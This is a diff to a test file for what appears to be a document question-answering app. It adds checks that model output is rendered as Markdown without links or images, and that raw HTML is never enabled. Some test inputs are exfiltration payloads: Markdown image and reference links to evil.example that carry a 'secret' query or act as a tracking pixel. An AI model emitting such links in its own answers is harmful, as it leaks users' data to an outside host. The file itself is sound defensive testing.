@@ -117,8 +117,10 @@ def test_a_question_outside_the_documents_says_not_found(home):
 
 def test_thumbs_down_with_a_comment_is_recorded(home):
     at = ask(open_app(AGENT), "What is the hotel limit per night in Tokyo?")
+    assert not [box for box in at.text_input if box.key.startswith("comment-")], "no comment box before a rating"
     at.feedback[0].set_value(0).run()
-    at.text_input(key=at.text_input[0].key).input("Wanted the Osaka limit").run()
+    [comment] = [box for box in at.text_input if box.key.startswith("comment-")]
+    comment.input("Wanted the Osaka limit").run()
     entries = audit(home, "feedback")
     assert entries[0]["rating"] == "down" and entries[0]["comment"] == "Wanted the Osaka limit"
 
@@ -288,8 +290,28 @@ def test_with_an_identity_provider_configured_sign_in_goes_through_it(home):
 
 
 def test_no_document_text_or_model_output_can_reach_html():
-    """The app renders document text and model output with st.text, st.code and st.caption only."""
+    """The app renders document text and model output with st.text, st.code and st.caption, and as Markdown only
+    through app/render.py: a model's Markdown without links or images, document text escaped. Raw HTML is never
+    switched on."""
+    import ast
+
     for path in (REPO_ROOT / "app").rglob("*.py"):
         source = path.read_text(encoding="utf-8")
         assert "unsafe_allow_html" not in source and "st.html" not in source, path
         assert "components.html" not in source, path
+        for node in ast.walk(ast.parse(source)):
+            if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "markdown":
+                [argument] = node.args
+                assert isinstance(argument, ast.Call) and getattr(argument.func, "id", "") in (
+                    "safe_markdown", "in_context", "escaped"
+                ), f"{path}:{node.lineno}: st.markdown of text not made safe by app/render.py"  # fmt: skip
+
+
+def test_markdown_from_a_model_loses_its_links_and_images_and_document_text_reads_as_written():
+    from app.render import in_context, safe_markdown
+
+    said = safe_markdown("## Paid Time Off\n*three* days ![x](http://evil.example/?q=secret) [policy](http://a.b) [2]")
+    assert said == "## Paid Time Off\n*three* days x policy [2]"
+    assert safe_markdown("[1]: http://evil.example/pixel\n![tracker][1]") == "\ntracker"
+    shown = in_context("# Payroll\nSalaries are paid on the 25th. *Not* before.", "Salaries are paid on the 25th.")
+    assert shown == "\\# Payroll  \n**Salaries are paid on the 25th\\.** \\*Not\\* before\\."
